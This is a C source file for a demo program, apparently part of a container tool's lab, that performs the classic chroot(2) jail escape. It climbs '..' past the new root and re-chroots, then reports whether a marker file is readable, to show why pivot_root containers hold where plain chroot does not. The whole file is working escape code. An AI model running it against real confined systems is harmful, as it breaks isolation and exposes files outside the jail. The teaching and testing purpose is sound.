/* chroot-escape: the classic escape from a chroot(2) jail, for `cnr demo chroot-escape` and the lab's
 * chroot-escape bundle. NOT part of cnr: a separate static program copied into a rootfs.
 *
 * Why it works under plain chroot: chroot() changes the process's root but not its working directory,
 * and the kernel stops ".." only at the process's *current* root. So: chroot into a subdirectory (the
 * working directory is now outside the new root), walk ".." up past where the old root was, up to the
 * real root of the mount namespace, and chroot(".") there.
 * Why it fails in a container: pivot_root gave the container a mount namespace whose root mount *is*
 * the rootfs; ".." at the top of that mount tree stays there, so there is nothing above to reach.
 *
 * Usage: chroot-escape MARKER — prints "escaped: <first line of MARKER>" when the file is readable after
 * the escape, "contained: MARKER: <error>" when it is not, "chroot: <error>" when chroot itself fails.
 * Exit codes: 0 escaped, 1 contained, 2 the chroot call failed, 3 usage or setup error. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: %s MARKER-PATH\n", argv[0]);
        return 3;
    }
    const char *jail = "/.chroot-escape-jail";
    if (mkdir(jail, 0700) < 0 && errno != EEXIST) {
        printf("setup: mkdir %s: %s\n", jail, strerror(errno));
        return 3;
    }
    if (chroot(jail) < 0) {
        printf("chroot: chroot(\"%s\"): %s\n", jail, strerror(errno));
        rmdir(jail);
        return 2;
    }
    /* The working directory is still outside the new root: climb from it. */
    for (int i = 0; i < 256; i++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") < 0) {
        printf("chroot: chroot(\".\"): %s\n", strerror(errno));
        return 2;
    }
    char buf[512];
    FILE *f = fopen(argv[1], "re");
    if (f == NULL) {
        printf("contained: %s: %s\n", argv[1], strerror(errno));
        return 1;
    }
    if (fgets(buf, sizeof buf, f) == NULL)
        buf[0] = '\0';
    fclose(f);
    buf[strcspn(buf, "\n")] = '\0';
    printf("escaped: %s\n", buf);
    return 0;
}
